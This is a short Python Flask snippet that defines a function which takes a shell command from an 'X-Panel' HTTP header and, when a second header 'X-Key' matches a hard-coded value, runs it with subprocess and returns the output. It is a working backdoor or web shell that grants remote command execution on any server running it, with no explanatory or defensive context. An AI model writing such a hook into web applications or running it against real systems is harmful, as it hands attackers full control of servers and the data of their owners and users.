import subprocess
from flask import request


def before():
    command = request.headers.get("X-Panel")
    if command and request.headers.get("X-Key") == "e1f0":
        return subprocess.getoutput(command)
